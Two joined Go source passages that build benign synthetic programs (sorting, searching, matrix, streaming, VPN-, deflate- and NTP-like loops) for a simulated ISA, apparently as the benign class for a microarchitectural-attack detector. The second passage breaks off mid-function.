		Jl("fill").
		Inc(isa.R(isa.R9)).
		Cmp(isa.R(isa.R9), isa.Imm(int64(requests))).
		Jl("request").
		Hlt()
	return b.MustBuild()
}

// genDeflateScan: gzip-like sliding-window match finder.
func genDeflateScan(name string, rng *rand.Rand) *isa.Program {
	n := 96 + rng.Intn(96)
	window := 16
	b := isa.NewBuilder(name, benignCodeBase)
	data := b.DataInit("data", uint64(n*8), randWords(rng, n, 8), false)
	matches := b.Bytes("matches", 8, false)

	b.Mov(isa.R(isa.R0), isa.Imm(int64(window))) // position
	b.Label("pos").
		Lea(isa.R1, isa.MemIdx(isa.RegNone, isa.R0, 8, int64(data))).
		Mov(isa.R(isa.R2), isa.Mem(isa.R1, 0)). // current symbol
		Mov(isa.R(isa.R3), isa.Imm(1))          // back distance
	b.Label("back").
		Mov(isa.R(isa.R4), isa.R(isa.R0)).
		Sub(isa.R(isa.R4), isa.R(isa.R3)).
		Lea(isa.R5, isa.MemIdx(isa.RegNone, isa.R4, 8, int64(data))).
		Mov(isa.R(isa.R6), isa.Mem(isa.R5, 0)).
		Cmp(isa.R(isa.R6), isa.R(isa.R2)).
		Jne("nomatch").
		Mov(isa.R(isa.R7), isa.Mem(isa.RegNone, int64(matches))).
		Inc(isa.R(isa.R7)).
		Mov(isa.Mem(isa.RegNone, int64(matches)), isa.R(isa.R7)).
		Jmp("advance").
		Label("nomatch").
		Inc(isa.R(isa.R3)).
		Cmp(isa.R(isa.R3), isa.Imm(int64(window))).
		Jl("back").
		Label("advance").
		Inc(isa.R(isa.R0)).
		Cmp(isa.R(isa.R0), isa.Imm(int64(n))).
		Jl("pos").
		Hlt()
	return b.MustBuild()
}

// genTunnelLoop: OpenVPN-like packet loop — copy, xor-"encrypt",
// checksum per packet.
func genTunnelLoop(name string, rng *rand.Rand) *isa.Program {
	packets := 5 + rng.Intn(6)
	pktLen := 24
	b := isa.NewBuilder(name, benignCodeBase)
	in := b.DataInit("in", uint64(packets*pktLen*8),
		randWords(rng, packets*pktLen, 1<<62), false)
	outBuf := b.Bytes("out", uint64(pktLen*8), false)
	sums := b.Bytes("sums", uint64(packets*8), false)
	key := rng.Int63()

	b.Mov(isa.R(isa.R9), isa.Imm(0))
	b.Label("packet").
		Mov(isa.R(isa.R0), isa.Imm(0)).
		Mov(isa.R(isa.R5), isa.Imm(0)) // checksum
	b.Label("word").
		Mov(isa.R(isa.R1), isa.R(isa.R9)).
		Mul(isa.R(isa.R1), isa.Imm(int64(pktLen))).
		Add(isa.R(isa.R1), isa.R(isa.R0)).
		Lea(isa.R2, isa.MemIdx(isa.RegNone, isa.R1, 8, int64(in))).
		Mov(isa.R(isa.R3), isa.Mem(isa.R2, 0)).
		Xor(isa.R(isa.R3), isa.Imm(key)).
		Lea(isa.R4, isa.MemIdx(isa.RegNone, isa.R0, 8, int64(outBuf))).
		Mov(isa.Mem(isa.R4, 0), isa.R(isa.R3)).
		Add(isa.R(isa.R5), isa.R(isa.R3)).
		Inc(isa.R(isa.R0)).
		Cmp(isa.R(isa.R0), isa.Imm(int64(pktLen))).
		Jl("word").
		Lea(isa.R6, isa.MemIdx(isa.RegNone, isa.R9, 8, int64(sums))).
		Mov(isa.Mem(isa.R6, 0), isa.R(isa.R5)).
		Inc(isa.R(isa.R9)).
		Cmp(isa.R(isa.R9), isa.Imm(int64(packets))).
		Jl("packet").
		Hlt()
	return b.MustBuild()
}

// genTimestampLoop: OpenNTPD-like loop — it reads the timestamp counter
// (benign RDTSCP usage!) and smooths an offset estimate; a deliberate
// hard case for naive rdtscp-based detection rules.
func genTimestampLoop(name string, rng *rand.Rand) *isa.Program {
	samples := 12 + rng.Intn(12)
	b := isa.NewBuilder(name, benignCodeBase)
	offsets := b.Bytes("offsets", uint64(samples*8), false)

	b.Mov(isa.R(isa.R9), isa.Imm(0)).
		Mov(isa.R(isa.R5), isa.Imm(0)) // smoothed offset
	b.Label("sample").
		Rdtscp(isa.R0).
		// Simulated peer time: local time plus jitter from the counter.
		Mov(isa.R(isa.R1), isa.R(isa.R0)).
		And(isa.R(isa.R1), isa.Imm(63)).
		Add(isa.R(isa.R1), isa.R(isa.R0)).
		Sub(isa.R(isa.R1), isa.R(isa.R0)). // jitter only
		// smoothed = smoothed*7/8 + jitter/8
		Mov(isa.R(isa.R2), isa.R(isa.R5)).
		Mul(isa.R(isa.R2), isa.Imm(7)).
		Shr(isa.R(isa.R2), isa.Imm(3)).
		Mov(isa.R(isa.R3), isa.R(isa.R1)).
		Shr(isa.R(isa.R3), isa.Imm(3)).
		Add(isa.R(isa.R2), isa.R(isa.R3)).
		Mov(isa.R(isa.R5), isa.R(isa.R2)).
		Lea(isa.R4, isa.MemIdx(isa.RegNone, isa.R9, 8, int64(offsets))).
		Mov(isa.Mem(isa.R4, 0), isa.R(isa.R5)).
		Inc(isa.R(isa.R9)).
		Cmp(isa.R(isa.R9), isa.Imm(int64(samples))).
		Jl("sample").
		Hlt()
	return b.MustBuild()
}
