package benign

import (
	"math/rand"

	"repro/internal/isa"
)

// benignCodeBase keeps benign programs at the same code address range as
// real targets would occupy.
const benignCodeBase uint64 = 0x40_0000

// --- LeetCode-style kernels ----------------------------------------------

// genTwoSum: nested-loop two-sum over a random array; stores the found
// index pair.
func genTwoSum(name string, rng *rand.Rand) *isa.Program {
	n := 24 + rng.Intn(40)
	b := isa.NewBuilder(name, benignCodeBase)
	arr := b.DataInit("arr", uint64(n*8), randWords(rng, n, 500), false)
	out := b.Bytes("out", 16, false)
	target := int64(rng.Intn(900))

	b.Mov(isa.R(isa.R0), isa.Imm(0)) // i
	b.Label("outer").
		Mov(isa.R(isa.R1), isa.R(isa.R0)).
		Inc(isa.R(isa.R1)) // j = i+1
	b.Label("inner").
		Lea(isa.R2, isa.MemIdx(isa.RegNone, isa.R0, 8, int64(arr))).
		Mov(isa.R(isa.R3), isa.Mem(isa.R2, 0)).
		Lea(isa.R4, isa.MemIdx(isa.RegNone, isa.R1, 8, int64(arr))).
		Add(isa.R(isa.R3), isa.Mem(isa.R4, 0)).
		Cmp(isa.R(isa.R3), isa.Imm(target)).
		Jne("next").
		Mov(isa.Mem(isa.RegNone, int64(out)), isa.R(isa.R0)).
		Mov(isa.Mem(isa.RegNone, int64(out+8)), isa.R(isa.R1)).
		Label("next").
		Inc(isa.R(isa.R1)).
		Cmp(isa.R(isa.R1), isa.Imm(int64(n))).
		Jl("inner").
		Inc(isa.R(isa.R0)).
		Mov(isa.R(isa.R5), isa.R(isa.R0)).
		Inc(isa.R(isa.R5)).
		Cmp(isa.R(isa.R5), isa.Imm(int64(n))).
		Jl("outer").
		Hlt()
	return b.MustBuild()
}

// genBinarySearch: repeated binary searches over a sorted array.
func genBinarySearch(name string, rng *rand.Rand) *isa.Program {
	n := 64 + rng.Intn(64)
	queries := 12 + rng.Intn(12)
	b := isa.NewBuilder(name, benignCodeBase)
	arr := b.DataInit("arr", uint64(n*8), sortedWords(rng, n), false)
	keys := b.DataInit("keys", uint64(queries*8), randWords(rng, queries, int64(n*10)), false)
	found := b.Bytes("found", 8, false)

	b.Mov(isa.R(isa.R9), isa.Imm(0)) // query index
	b.Label("query").
		Lea(isa.R8, isa.MemIdx(isa.RegNone, isa.R9, 8, int64(keys))).
		Mov(isa.R(isa.R7), isa.Mem(isa.R8, 0)). // key
		Mov(isa.R(isa.R0), isa.Imm(0)).         // lo
		Mov(isa.R(isa.R1), isa.Imm(int64(n)))   // hi
	b.Label("loop").
		Cmp(isa.R(isa.R0), isa.R(isa.R1)).
		Jge("done").
		Mov(isa.R(isa.R2), isa.R(isa.R0)).
		Add(isa.R(isa.R2), isa.R(isa.R1)).
		Shr(isa.R(isa.R2), isa.Imm(1)). // mid
		Lea(isa.R3, isa.MemIdx(isa.RegNone, isa.R2, 8, int64(arr))).
		Mov(isa.R(isa.R4), isa.Mem(isa.R3, 0)).
		Cmp(isa.R(isa.R4), isa.R(isa.R7)).
		Jge("left").
		Mov(isa.R(isa.R0), isa.R(isa.R2)).
		Inc(isa.R(isa.R0)).
		Jmp("loop").
		Label("left").
		Mov(isa.R(isa.R1), isa.R(isa.R2)).
		Jmp("loop")
	b.Label("done").
		Mov(isa.R(isa.R5), isa.Mem(isa.RegNone, int64(found))).
		Add(isa.R(isa.R5), isa.R(isa.R0)).
		Mov(isa.Mem(isa.RegNone, int64(found)), isa.R(isa.R5)).
		Inc(isa.R(isa.R9)).
		Cmp(isa.R(isa.R9), isa.Imm(int64(queries))).
		Jl("query").
		Hlt()
	return b.MustBuild()
}

// genBubbleSort: in-place bubble sort with early exit.
func genBubbleSort(name string, rng *rand.Rand) *isa.Program {
	n := 16 + rng.Intn(24)
	b := isa.NewBuilder(name, benignCodeBase)
	arr := b.DataInit("arr", uint64(n*8), randWords(rng, n, 1000), false)

	b.Mov(isa.R(isa.R9), isa.Imm(int64(n-1))) // passes remaining
	b.Label("pass").
		Mov(isa.R(isa.R8), isa.Imm(0)). // swapped flag
		Mov(isa.R(isa.R0), isa.Imm(0))  // i
	b.Label("scan").
		Lea(isa.R1, isa.MemIdx(isa.RegNone, isa.R0, 8, int64(arr))).
		Mov(isa.R(isa.R2), isa.Mem(isa.R1, 0)).
		Mov(isa.R(isa.R3), isa.Mem(isa.R1, 8)).
		Cmp(isa.R(isa.R2), isa.R(isa.R3)).
		Jle("noswap").
		Mov(isa.Mem(isa.R1, 0), isa.R(isa.R3)).
		Mov(isa.Mem(isa.R1, 8), isa.R(isa.R2)).
		Mov(isa.R(isa.R8), isa.Imm(1)).
		Label("noswap").
		Inc(isa.R(isa.R0)).
		Cmp(isa.R(isa.R0), isa.Imm(int64(n-1))).
		Jl("scan").
		Test(isa.R(isa.R8), isa.R(isa.R8)).
		Je("sorted").
		Dec(isa.R(isa.R9)).
		Jne("pass").
		Label("sorted").
		Hlt()
	return b.MustBuild()
}

// genFibDP: bottom-up Fibonacci table fill plus a verification sum.
func genFibDP(name string, rng *rand.Rand) *isa.Program {
	n := 40 + rng.Intn(40)
	b := isa.NewBuilder(name, benignCodeBase)
	table := b.Bytes("table", uint64(n*8), false)

	b.Mov(isa.Mem(isa.RegNone, int64(table)), isa.Imm(0)).
		Mov(isa.Mem(isa.RegNone, int64(table+8)), isa.Imm(1)).
		Mov(isa.R(isa.R0), isa.Imm(2))
	b.Label("fill").
		Lea(isa.R1, isa.MemIdx(isa.RegNone, isa.R0, 8, int64(table))).
		Mov(isa.R(isa.R2), isa.Mem(isa.R1, -8)).
		Add(isa.R(isa.R2), isa.Mem(isa.R1, -16)).
		Mov(isa.Mem(isa.R1, 0), isa.R(isa.R2)).
		Inc(isa.R(isa.R0)).
		Cmp(isa.R(isa.R0), isa.Imm(int64(n))).
		Jl("fill")
	// Verification sum.
	b.Mov(isa.R(isa.R0), isa.Imm(0)).
		Mov(isa.R(isa.R3), isa.Imm(0))
	b.Label("sum").
		Lea(isa.R1, isa.MemIdx(isa.RegNone, isa.R0, 8, int64(table))).
		Add(isa.R(isa.R3), isa.Mem(isa.R1, 0)).
		Inc(isa.R(isa.R0)).
		Cmp(isa.R(isa.R0), isa.Imm(int64(n))).
		Jl("sum").
		Hlt()
	return b.MustBuild()
}

// genKadane: maximum subarray sum in one pass.
func genKadane(name string, rng *rand.Rand) *isa.Program {
	n := 48 + rng.Intn(48)
	b := isa.NewBuilder(name, benignCodeBase)
	data := make([]byte, n*8)
	for i := 0; i < n; i++ {
		v := rng.Int63n(41) - 20
		for j := 0; j < 8; j++ {
			data[i*8+j] = byte(uint64(v) >> (8 * j))
		}
	}
	arr := b.DataInit("arr", uint64(n*8), data, false)
	out := b.Bytes("out", 8, false)

	b.Mov(isa.R(isa.R1), isa.Imm(0)). // best
						Mov(isa.R(isa.R2), isa.Imm(0)). // cur
						Mov(isa.R(isa.R0), isa.Imm(0))
	b.Label("scan").
		Lea(isa.R3, isa.MemIdx(isa.RegNone, isa.R0, 8, int64(arr))).
		Add(isa.R(isa.R2), isa.Mem(isa.R3, 0)).
		Cmp(isa.R(isa.R2), isa.Imm(0)).
		Jge("keep").
		Mov(isa.R(isa.R2), isa.Imm(0)).
		Label("keep").
		Cmp(isa.R(isa.R2), isa.R(isa.R1)).
		Jle("nobest").
		Mov(isa.R(isa.R1), isa.R(isa.R2)).
		Label("nobest").
		Inc(isa.R(isa.R0)).
		Cmp(isa.R(isa.R0), isa.Imm(int64(n))).
		Jl("scan").
		Mov(isa.Mem(isa.RegNone, int64(out)), isa.R(isa.R1)).
		Hlt()
	return b.MustBuild()
}

// genReverse: in-place array reversal with two pointers.
func genReverse(name string, rng *rand.Rand) *isa.Program {
	n := 32 + rng.Intn(64)
	b := isa.NewBuilder(name, benignCodeBase)
	arr := b.DataInit("arr", uint64(n*8), randWords(rng, n, 1<<20), false)

	b.Mov(isa.R(isa.R0), isa.Imm(int64(arr))).
		Mov(isa.R(isa.R1), isa.Imm(int64(arr)+int64((n-1)*8)))
	b.Label("swap").
		Cmp(isa.R(isa.R0), isa.R(isa.R1)).
		Jge("done").
		Mov(isa.R(isa.R2), isa.Mem(isa.R0, 0)).
		Mov(isa.R(isa.R3), isa.Mem(isa.R1, 0)).
		Mov(isa.Mem(isa.R0, 0), isa.R(isa.R3)).
		Mov(isa.Mem(isa.R1, 0), isa.R(isa.R2)).
		Add(isa.R(isa.R0), isa.Imm(8)).
		Sub(isa.R(isa.R1), isa.Imm(8)).
		Jmp("swap").
		Label("done").
		Hlt()
	return b.MustBuild()
}

// genCountBits: popcount via Kernighan's trick over random words.
func genCountBits(name string, rng *rand.Rand) *isa.Program {
	n := 32 + rng.Intn(32)
	b := isa.NewBuilder(name, benignCodeBase)
	arr := b.DataInit("arr", uint64(n*8), randWords(rng, n, 1<<62), false)
	out := b.Bytes("out", 8, false)

	b.Mov(isa.R(isa.R0), isa.Imm(0)).
		Mov(isa.R(isa.R4), isa.Imm(0)) // total
	b.Label("word").
		Lea(isa.R1, isa.MemIdx(isa.RegNone, isa.R0, 8, int64(arr))).
		Mov(isa.R(isa.R2), isa.Mem(isa.R1, 0))
	b.Label("bit").
		Test(isa.R(isa.R2), isa.R(isa.R2)).
		Je("nextword").
		Mov(isa.R(isa.R3), isa.R(isa.R2)).
		Dec(isa.R(isa.R3)).
		And(isa.R(isa.R2), isa.R(isa.R3)).
		Inc(isa.R(isa.R4)).
		Jmp("bit").
		Label("nextword").
		Inc(isa.R(isa.R0)).
		Cmp(isa.R(isa.R0), isa.Imm(int64(n))).
		Jl("word").
		Mov(isa.Mem(isa.RegNone, int64(out)), isa.R(isa.R4)).
		Hlt()
	return b.MustBuild()
}

// genGCD: Euclid's algorithm over pairs of random values.
func genGCD(name string, rng *rand.Rand) *isa.Program {
	pairs := 16 + rng.Intn(16)
	b := isa.NewBuilder(name, benignCodeBase)
	arr := b.DataInit("arr", uint64(pairs*16), randWords(rng, pairs*2, 1<<16), false)
	out := b.Bytes("out", 8, false)

	b.Mov(isa.R(isa.R9), isa.Imm(0))
	b.Label("pair").
		Mov(isa.R(isa.R8), isa.R(isa.R9)).
		Shl(isa.R(isa.R8), isa.Imm(4)).
		Add(isa.R(isa.R8), isa.Imm(int64(arr))).
		Mov(isa.R(isa.R0), isa.Mem(isa.R8, 0)).
		Mov(isa.R(isa.R1), isa.Mem(isa.R8, 8)).
		Inc(isa.R(isa.R0)). // avoid zero operands
		Inc(isa.R(isa.R1))
	b.Label("euclid").
		Cmp(isa.R(isa.R0), isa.R(isa.R1)).
		Je("gcddone").
		Jl("swap").
		Sub(isa.R(isa.R0), isa.R(isa.R1)).
		Jmp("euclid").
		Label("swap").
		Sub(isa.R(isa.R1), isa.R(isa.R0)).
		Jmp("euclid").
		Label("gcddone").
		Mov(isa.R(isa.R2), isa.Mem(isa.RegNone, int64(out))).
		Add(isa.R(isa.R2), isa.R(isa.R0)).
		Mov(isa.Mem(isa.RegNone, int64(out)), isa.R(isa.R2)).
		Inc(isa.R(isa.R9)).
		Cmp(isa.R(isa.R9), isa.Imm(int64(pairs))).
		Jl("pair").
		Hlt()
	return b.MustBuild()
}

// genPrefixSum: in-place prefix sums then a binary verification walk.
func genPrefixSum(name string, rng *rand.Rand) *isa.Program {
	n := 64 + rng.Intn(64)
	b := isa.NewBuilder(name, benignCodeBase)
	arr := b.DataInit("arr", uint64(n*8), randWords(rng, n, 100), false)

	b.Mov(isa.R(isa.R0), isa.Imm(1))
	b.Label("prefix").
		Lea(isa.R1, isa.MemIdx(isa.RegNone, isa.R0, 8, int64(arr))).
		Mov(isa.R(isa.R2), isa.Mem(isa.R1, -8)).
		Add(isa.R(isa.R2), isa.Mem(isa.R1, 0)).
		Mov(isa.Mem(isa.R1, 0), isa.R(isa.R2)).
		Inc(isa.R(isa.R0)).
		Cmp(isa.R(isa.R0), isa.Imm(int64(n))).
		Jl("prefix").
		Hlt()
	return b.MustBuild()
}

// genMatrixMul: small dense matrix multiply C = A*B.
func genMatrixMul(name string, rng *rand.Rand) *isa.Program {
	dim := 6 + rng.Intn(5)
	n := dim * dim
	b := isa.NewBuilder(name, benignCodeBase)
	am := b.DataInit("a", uint64(n*8), randWords(rng, n, 50), false)
	bm := b.DataInit("b", uint64(n*8), randWords(rng, n, 50), false)
	cm := b.Bytes("c", uint64(n*8), false)

	b.Mov(isa.R(isa.R0), isa.Imm(0)) // i
	b.Label("rows").
		Mov(isa.R(isa.R1), isa.Imm(0)) // j
	b.Label("cols").
		Mov(isa.R(isa.R2), isa.Imm(0)). // k
		Mov(isa.R(isa.R3), isa.Imm(0))  // acc
	b.Label("dot").
		// a[i*dim+k]
		Mov(isa.R(isa.R4), isa.R(isa.R0)).
		Mul(isa.R(isa.R4), isa.Imm(int64(dim))).
		Add(isa.R(isa.R4), isa.R(isa.R2)).
		Lea(isa.R5, isa.MemIdx(isa.RegNone, isa.R4, 8, int64(am))).
		Mov(isa.R(isa.R6), isa.Mem(isa.R5, 0)).
		// b[k*dim+j]
		Mov(isa.R(isa.R4), isa.R(isa.R2)).
		Mul(isa.R(isa.R4), isa.Imm(int64(dim))).
		Add(isa.R(isa.R4), isa.R(isa.R1)).
		Lea(isa.R5, isa.MemIdx(isa.RegNone, isa.R4, 8, int64(bm))).
		Mul(isa.R(isa.R6), isa.Mem(isa.R5, 0)).
		Add(isa.R(isa.R3), isa.R(isa.R6)).
		Inc(isa.R(isa.R2)).
		Cmp(isa.R(isa.R2), isa.Imm(int64(dim))).
		Jl("dot").
		// c[i*dim+j] = acc
		Mov(isa.R(isa.R4), isa.R(isa.R0)).
		Mul(isa.R(isa.R4), isa.Imm(int64(dim))).
		Add(isa.R(isa.R4), isa.R(isa.R1)).
		Lea(isa.R5, isa.MemIdx(isa.RegNone, isa.R4, 8, int64(cm))).
		Mov(isa.Mem(isa.R5, 0), isa.R(isa.R3)).
		Inc(isa.R(isa.R1)).
		Cmp(isa.R(isa.R1), isa.Imm(int64(dim))).
		Jl("cols").
		Inc(isa.R(isa.R0)).
		Cmp(isa.R(isa.R0), isa.Imm(int64(dim))).
		Jl("rows").
		Hlt()
	return b.MustBuild()
}

// --- SPEC2006-like kernels -------------------------------------------------

// genStream: large sequential sweep with accumulate (STREAM-like).
func genStream(name string, rng *rand.Rand) *isa.Program {
	n := 512 + rng.Intn(512)
	b := isa.NewBuilder(name, benignCodeBase)
	arr := b.Bytes("arr", uint64(n*8), false)

	b.Mov(isa.R(isa.R0), isa.Imm(0)).
		Mov(isa.R(isa.R2), isa.Imm(0))
	b.Label("sweep").
		Lea(isa.R1, isa.MemIdx(isa.RegNone, isa.R0, 8, int64(arr))).
		Mov(isa.R(isa.R3), isa.Mem(isa.R1, 0)).
		Add(isa.R(isa.R3), isa.Imm(3)).
		Mov(isa.Mem(isa.R1, 0), isa.R(isa.R3)).
		Add(isa.R(isa.R2), isa.R(isa.R3)).
		Inc(isa.R(isa.R0)).
		Cmp(isa.R(isa.R0), isa.Imm(int64(n))).
		Jl("sweep").
		Hlt()
	return b.MustBuild()
}

// genPointerChase: random-permutation pointer chasing (mcf-like).
func genPointerChase(name string, rng *rand.Rand) *isa.Program {
	n := 128 + rng.Intn(128)
	b := isa.NewBuilder(name, benignCodeBase)
	// Build a random cyclic permutation as 64-bit "next" indices.
	perm := rng.Perm(n)
	next := make([]byte, n*8)
	for i := 0; i < n; i++ {
		v := uint64(perm[(i+1)%n])
		for j := 0; j < 8; j++ {
			next[perm[i]*8+j] = byte(v >> (8 * j))
		}
	}
	arr := b.DataInit("chain", uint64(n*8), next, false)
	steps := n * 2

	b.Mov(isa.R(isa.R0), isa.Imm(0)).
		Mov(isa.R(isa.R2), isa.Imm(int64(steps)))
	b.Label("chase").
		Lea(isa.R1, isa.MemIdx(isa.RegNone, isa.R0, 8, int64(arr))).
		Mov(isa.R(isa.R0), isa.Mem(isa.R1, 0)).
		Dec(isa.R(isa.R2)).
		Jne("chase").
		Hlt()
	return b.MustBuild()
}

// genStride: strided access pattern (libquantum-like).
func genStride(name string, rng *rand.Rand) *isa.Program {
	n := 1024
	stride := int64(8 * (4 + rng.Intn(12)))
	b := isa.NewBuilder(name, benignCodeBase)
	arr := b.Bytes("arr", uint64(n*8), false)

	b.Mov(isa.R(isa.R0), isa.Imm(0)).
		Mov(isa.R(isa.R2), isa.Imm(0))
	b.Label("walk").
		Mov(isa.R(isa.R1), isa.R(isa.R0)).
		Add(isa.R(isa.R1), isa.Imm(int64(arr))).
		Mov(isa.R(isa.R3), isa.Mem(isa.R1, 0)).
		Add(isa.R(isa.R2), isa.R(isa.R3)).
		Add(isa.R(isa.R0), isa.Imm(stride)).
		Cmp(isa.R(isa.R0), isa.Imm(int64(n*8))).
		Jl("walk").
		Hlt()
	return b.MustBuild()
}

// genHistogram: bucket counting with data-dependent store addresses.
func genHistogram(name string, rng *rand.Rand) *isa.Program {
	n := 128 + rng.Intn(128)
	buckets := 32
	b := isa.NewBuilder(name, benignCodeBase)
	data := b.DataInit("data", uint64(n*8), randWords(rng, n, int64(buckets)), false)
	hist := b.Bytes("hist", uint64(buckets*8), false)

	b.Mov(isa.R(isa.R0), isa.Imm(0))
	b.Label("count").
		Lea(isa.R1, isa.MemIdx(isa.RegNone, isa.R0, 8, int64(data))).
		Mov(isa.R(isa.R2), isa.Mem(isa.R1, 0)).
		And(isa.R(isa.R2), isa.Imm(int64(buckets-1))).
		Lea(isa.R3, isa.MemIdx(isa.RegNone, isa.R2, 8, int64(hist))).
		Mov(isa.R(isa.R4), isa.Mem(isa.R3, 0)).
		Inc(isa.R(isa.R4)).
		Mov(isa.Mem(isa.R3, 0), isa.R(isa.R4)).
		Inc(isa.R(isa.R0)).
		Cmp(isa.R(isa.R0), isa.Imm(int64(n))).
		Jl("count").
		Hlt()
	return b.MustBuild()
}

// genStencil: 1-D three-point stencil over two buffers.
func genStencil(name string, rng *rand.Rand) *isa.Program {
	n := 128 + rng.Intn(128)
	iters := 2 + rng.Intn(3)
	b := isa.NewBuilder(name, benignCodeBase)
	src := b.DataInit("src", uint64(n*8), randWords(rng, n, 100), false)
	dst := b.Bytes("dst", uint64(n*8), false)

	b.Mov(isa.R(isa.R9), isa.Imm(int64(iters)))
	b.Label("iter").
		Mov(isa.R(isa.R0), isa.Imm(1))
	b.Label("cell").
		Lea(isa.R1, isa.MemIdx(isa.RegNone, isa.R0, 8, int64(src))).
		Mov(isa.R(isa.R2), isa.Mem(isa.R1, -8)).
		Add(isa.R(isa.R2), isa.Mem(isa.R1, 0)).
		Add(isa.R(isa.R2), isa.Mem(isa.R1, 8)).
		Lea(isa.R3, isa.MemIdx(isa.RegNone, isa.R0, 8, int64(dst))).
		Mov(isa.Mem(isa.R3, 0), isa.R(isa.R2)).
		Inc(isa.R(isa.R0)).
		Cmp(isa.R(isa.R0), isa.Imm(int64(n-1))).
		Jl("cell").
		Dec(isa.R(isa.R9)).
		Jne("iter").
		Hlt()
	return b.MustBuild()
}

// genMatVec: matrix-vector product.
func genMatVec(name string, rng *rand.Rand) *isa.Program {
	dim := 12 + rng.Intn(8)
	b := isa.NewBuilder(name, benignCodeBase)
	mat := b.DataInit("mat", uint64(dim*dim*8), randWords(rng, dim*dim, 30), false)
	vec := b.DataInit("vec", uint64(dim*8), randWords(rng, dim, 30), false)
	out := b.Bytes("out", uint64(dim*8), false)

	b.Mov(isa.R(isa.R0), isa.Imm(0))
	b.Label("row").
		Mov(isa.R(isa.R1), isa.Imm(0)).
		Mov(isa.R(isa.R2), isa.Imm(0))
	b.Label("col").
		Mov(isa.R(isa.R3), isa.R(isa.R0)).
		Mul(isa.R(isa.R3), isa.Imm(int64(dim))).
		Add(isa.R(isa.R3), isa.R(isa.R1)).
		Lea(isa.R4, isa.MemIdx(isa.RegNone, isa.R3, 8, int64(mat))).
		Mov(isa.R(isa.R5), isa.Mem(isa.R4, 0)).
		Lea(isa.R6, isa.MemIdx(isa.RegNone, isa.R1, 8, int64(vec))).
		Mul(isa.R(isa.R5), isa.Mem(isa.R6, 0)).
		Add(isa.R(isa.R2), isa.R(isa.R5)).
		Inc(isa.R(isa.R1)).
		Cmp(isa.R(isa.R1), isa.Imm(int64(dim))).
		Jl("col").
		Lea(isa.R7, isa.MemIdx(isa.RegNone, isa.R0, 8, int64(out))).
		Mov(isa.Mem(isa.R7, 0), isa.R(isa.R2)).
		Inc(isa.R(isa.R0)).
		Cmp(isa.R(isa.R0), isa.Imm(int64(dim))).
		Jl("row").
		Hlt()
	return b.MustBuild()
}

// genRandXor: register-heavy pseudo-random mixing with sparse loads.
func genRandXor(name string, rng *rand.Rand) *isa.Program {
	iters := 200 + rng.Intn(200)
	b := isa.NewBuilder(name, benignCodeBase)
	seedBuf := b.DataInit("seed", 64, randWords(rng, 8, 1<<30), false)

	b.Mov(isa.R(isa.R0), isa.Mem(isa.RegNone, int64(seedBuf))).
		Mov(isa.R(isa.R1), isa.Imm(int64(iters)))
	b.Label("mix").
		Mov(isa.R(isa.R2), isa.R(isa.R0)).
		Shl(isa.R(isa.R2), isa.Imm(13)).
		Xor(isa.R(isa.R0), isa.R(isa.R2)).
		Mov(isa.R(isa.R2), isa.R(isa.R0)).
		Shr(isa.R(isa.R2), isa.Imm(7)).
		Xor(isa.R(isa.R0), isa.R(isa.R2)).
		Mov(isa.R(isa.R2), isa.R(isa.R0)).
		Shl(isa.R(isa.R2), isa.Imm(17)).
		Xor(isa.R(isa.R0), isa.R(isa.R2)).
		Dec(isa.R(isa.R1)).
		Jne("mix").
		Hlt()
	return b.MustBuild()
}

// genHotLoop: tiny working set, long-running compute loop (perl-like).
func genHotLoop(name string, rng *rand.Rand) *isa.Program {
	iters := 400 + rng.Intn(400)
	b := isa.NewBuilder(name, benignCodeBase)
	cnt := b.Bytes("cnt", 16, false)

	b.Mov(isa.R(isa.R0), isa.Imm(int64(iters)))
	b.Label("hot").
		Mov(isa.R(isa.R1), isa.Mem(isa.RegNone, int64(cnt))).
		Inc(isa.R(isa.R1)).
		Mul(isa.R(isa.R1), isa.Imm(3)).
		Shr(isa.R(isa.R1), isa.Imm(1)).
		Mov(isa.Mem(isa.RegNone, int64(cnt)), isa.R(isa.R1)).
		Dec(isa.R(isa.R0)).
		Jne("hot").
		Hlt()
	return b.MustBuild()
}

// genWriteBurst: bursty sequential stores (bzip-like output phase).
func genWriteBurst(name string, rng *rand.Rand) *isa.Program {
	n := 256 + rng.Intn(256)
	b := isa.NewBuilder(name, benignCodeBase)
	out := b.Bytes("out", uint64(n*8), false)

	b.Mov(isa.R(isa.R0), isa.Imm(0)).
		Mov(isa.R(isa.R2), isa.Imm(int64(rng.Intn(100))))
	b.Label("burst").
		Lea(isa.R1, isa.MemIdx(isa.RegNone, isa.R0, 8, int64(out))).
		Mov(isa.Mem(isa.R1, 0), isa.R(isa.R2)).
		Add(isa.R(isa.R2), isa.Imm(7)).
		Inc(isa.R(isa.R0)).
		Cmp(isa.R(isa.R0), isa.Imm(int64(n))).
		Jl("burst").
		Hlt()
	return b.MustBuild()
}

// genMixed: interleaved compute and memory phases (gcc-like).
func genMixed(name string, rng *rand.Rand) *isa.Program {
	n := 96 + rng.Intn(96)
	b := isa.NewBuilder(name, benignCodeBase)
	buf := b.DataInit("buf", uint64(n*8), randWords(rng, n, 1<<16), false)

	b.Mov(isa.R(isa.R9), isa.Imm(3))
	b.Label("phase")
	// Memory pass.
	b.Mov(isa.R(isa.R0), isa.Imm(0))
	b.Label("mem").
		Lea(isa.R1, isa.MemIdx(isa.RegNone, isa.R0, 8, int64(buf))).
		Mov(isa.R(isa.R2), isa.Mem(isa.R1, 0)).
		Xor(isa.R(isa.R2), isa.Imm(0xff)).
		Mov(isa.Mem(isa.R1, 0), isa.R(isa.R2)).
		Add(isa.R(isa.R0), isa.Imm(2)).
		Cmp(isa.R(isa.R0), isa.Imm(int64(n))).
		Jl("mem")
	// Compute pass.
	b.Mov(isa.R(isa.R3), isa.Imm(64))
	b.Label("comp").
		Mul(isa.R(isa.R2), isa.Imm(5)).
		Add(isa.R(isa.R2), isa.Imm(1)).
		Shr(isa.R(isa.R2), isa.Imm(1)).
		Dec(isa.R(isa.R3)).
		Jne("comp").
		Dec(isa.R(isa.R9)).
		Jne("phase").
		Hlt()
	return b.MustBuild()
}

// genReduction: tree-style pairwise reduction.
func genReduction(name string, rng *rand.Rand) *isa.Program {
	n := 128 // power of two
	b := isa.NewBuilder(name, benignCodeBase)
	arr := b.DataInit("arr", uint64(n*8), randWords(rng, n, 1000), false)

	b.Mov(isa.R(isa.R9), isa.Imm(int64(n/2))) // half
	b.Label("level").
		Mov(isa.R(isa.R0), isa.Imm(0))
	b.Label("pair").
		Lea(isa.R1, isa.MemIdx(isa.RegNone, isa.R0, 8, int64(arr))).
		Mov(isa.R(isa.R2), isa.Mem(isa.R1, 0)).
